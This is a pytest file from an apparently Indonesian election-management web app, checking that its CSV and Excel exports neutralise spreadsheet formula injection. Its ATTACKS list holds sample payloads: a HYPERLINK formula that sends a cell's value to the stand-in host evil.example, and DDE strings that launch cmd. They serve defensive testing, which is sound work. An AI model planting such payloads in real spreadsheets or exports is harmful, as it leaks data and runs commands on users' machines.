"""Every export neutralises spreadsheet formulas (security probe, finding 3)."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from deskpilkada.imports import neutralise
from deskpilkada.tps import actions as tps_actions
from deskpilkada.tps.models import Tps

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
FORMULA = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")  # a negative coordinate in a CSV is a number, not a formula
SOURCE = Path(__file__).resolve().parents[1] / "deskpilkada"


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_would_start_a_formula_is_made_text(attack):
    assert neutralise(attack) == "'" + attack
    assert neutralise("Jl. Merdeka 1") == "Jl. Merdeka 1"
    assert neutralise(-6.59) == -6.59 and neutralise(12) == 12


@pytest.fixture
def poisoned_tps(persona):
    """TPS 028 Kebon Pedes with a formula as its address (behind on invitations in the demo)."""
    tps = Tps.objects.get(code="3271061002028")
    return tps_actions.update_tps(by=persona("kpu"), tps=tps, expected_version=tps.version, address=ATTACKS[0])


def _csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(response) -> list:
    ws = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in ws.iter_rows() for cell in row]


def test_the_tps_csv_export_writes_no_live_formula(client_as, poisoned_tps):
    cells = _csv_cells(client_as("kpu").get("/tps/ekspor.csv"))
    assert "'" + ATTACKS[0] in cells
    assert not [c for c in cells if FORMULA.match(c) and not NUMBER.fullmatch(c)]


def test_the_tps_excel_export_writes_text_cells_not_formulas(client_as, poisoned_tps):
    cells = _xlsx_cells(client_as("kpu").get("/tps/ekspor.xlsx"))
    assert not [c.value for c in cells if c.data_type == "f"]
    assert "'" + ATTACKS[0] in [c.value for c in cells]


def test_the_invitation_export_writes_no_live_formula(client_as, poisoned_tps):
    cells = _xlsx_cells(client_as("admin").get("/undangan/ekspor.xlsx"))
    assert cells, "the export is empty"
    assert not [c.value for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and FORMULA.match(c.value)]


def test_every_export_goes_through_the_neutralising_writers():
    """CSV and Excel are written only in deskpilkada/imports.py, whose writers neutralise every cell."""
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|\.append\(\s*\[")
    offenders = [
        str(path.relative_to(SOURCE))
        for path in SOURCE.rglob("*.py")
        if "tests" not in path.parts and path.name != "imports.py" and writers.search(path.read_text())
    ]
    assert not offenders, f"files writing spreadsheets around deskpilkada/imports.py: {offenders}"
